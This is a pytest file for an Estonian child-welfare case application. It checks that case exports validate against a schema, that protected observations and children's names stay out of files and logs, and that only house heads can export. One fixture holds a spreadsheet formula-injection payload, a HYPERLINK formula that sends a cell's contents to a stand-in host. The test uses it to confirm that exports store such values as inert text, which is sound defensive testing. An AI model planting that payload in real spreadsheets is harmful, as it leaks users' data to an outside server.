# SPDX-License-Identifier: EUPL-1.2
"""A case out of the program: as JSON that fits its schema, as a workbook of nothing but text."""

from __future__ import annotations

import json
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator
from openpyxl import load_workbook

from hop_desktop.app import cases, exports, inbox, journal, plans
from hop_desktop.app.session import Session
from hop_desktop.domain.cases import Need
from hop_desktop.domain.errors import NotAllowed
from hop_desktop.domain.exports import ExportFormat, ExportReason, file_name
from hop_desktop.domain.ids import CaseId
from tests import worlds
from tests.app.chain import answer_to, sent_on
from tests.app.dealings import some_dealings
from tests.app.houses import Houses
from tests.worlds import RESOURCES

HOSTILE = '=HYPERLINK("http://x.example?"&A1,"Vajuta")'


@pytest.fixture
def case_id(houses: Houses, tmp_path: Path) -> CaseId:
    """A case with something of everything, at the desk."""
    case = worlds.a_case_in_stage_two(houses.head)
    some_dealings(houses.head, case.id)
    worlds.an_assessment_of(houses.head, case.id)
    cases.save_need(houses.head, case.id, Need(network=HOSTILE, health="-1+1"))
    plans.approve_plan(houses.head, case.id)
    handover, data = sent_on(houses, case.id, tmp_path)
    inbox.take_in(houses.desk, data)
    inbox.accept(houses.desk, handover.id)
    inbox.take_in(houses.head, answer_to(houses.desk, handover.id, tmp_path))
    return case.id


def exported(session: Session, case_id: CaseId, folder: Path, how: ExportFormat) -> bytes:
    path = folder / file_name("HOP 1234abcd", session.today(), how)
    exports.export(session, case_id, path, how=how, reason=ExportReason.OTHER_REGISTER)
    return path.read_bytes()


def test_json_fits_the_published_schema_and_holds_the_case(
    houses: Houses, case_id: CaseId, tmp_path: Path
) -> None:
    content = json.loads(exported(houses.desk, case_id, tmp_path, ExportFormat.JSON))

    schema = json.loads((RESOURCES / "schemas" / "case-export.schema.json").read_text("utf-8"))
    Draft202012Validator.check_schema(schema)
    Draft202012Validator(schema).validate(content)
    file = cases.case_file(houses.desk, case_id)
    assert content["child"]["last_name"] == file.child.last_name
    assert {entry["id"] for entry in content["entries"]} >= {str(e.id) for e in file.received}
    assert content["need"]["network"] == HOSTILE
    assert {house["name"] for house in content["houses"]} == {
        "Pääsukese näidislasteaed",
        "Näidisvalla heaoluteenistus",
    }


def test_the_workbook_holds_the_same_in_text_cells_alone(
    houses: Houses, case_id: CaseId, tmp_path: Path
) -> None:
    book = load_workbook(BytesIO(exported(houses.desk, case_id, tmp_path, ExportFormat.XLSX)))

    every = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in every if cell.value is not None} == {"s"}
    assert book.sheetnames[:3] == ["Juhtum", "Pere ja kodud", "Kronoloogia"]
    texts = {cell.value for cell in every}
    assert {HOSTILE, "-1+1", "Mari Maasikas"} <= texts
    assert "Pääsukese näidislasteaed" in texts  # which house wrote an entry


def test_a_closed_case_is_exported_as_well(houses: Houses, case_id: CaseId, tmp_path: Path) -> None:
    cases.close_case(houses.desk, case_id, reason="Lahendatud.")

    assert json.loads(exported(houses.desk, case_id, tmp_path, ExportFormat.JSON))["closed"]


def test_the_journal_has_the_reason_and_nothing_of_the_child(
    houses: Houses, case_id: CaseId, tmp_path: Path
) -> None:
    exported(houses.desk, case_id, tmp_path, ExportFormat.JSON)

    entries = [row.entry for row in journal.journal(houses.desk)]
    (told,) = (entry for entry in entries if entry.action == "case.exported")
    assert (told.reason, told.object_id) == ("other-register", case_id)


def test_protected_observations_stay(houses: Houses, tmp_path: Path) -> None:
    child = worlds.a_child_of(houses.head)
    worlds.an_observation_of(houses.head, child, facts="Ütles, et kardab koju minna.", danger=True)
    case = worlds.a_case_in_stage_two(houses.head, child)

    content = exported(houses.head, case.id, tmp_path, ExportFormat.JSON).decode()

    assert "Väsib mürast" in content
    assert "kardab koju" not in content


def test_in_a_house_only_its_head_takes_cases_out(houses: Houses, tmp_path: Path) -> None:
    case = worlds.a_case_in_stage_two(houses.head)
    for session in (houses.coordinator, houses.teacher, houses.specialist):
        with pytest.raises(NotAllowed):
            exported(session, case.id, tmp_path, ExportFormat.JSON)
    assert list(tmp_path.glob("HOP*")) == []


def test_the_file_name_says_nothing_of_the_child() -> None:
    name = file_name("HOP 1234abcd", date(2026, 11, 24), ExportFormat.XLSX)

    assert name == "HOP-1234abcd-2026-11-24.xlsx"
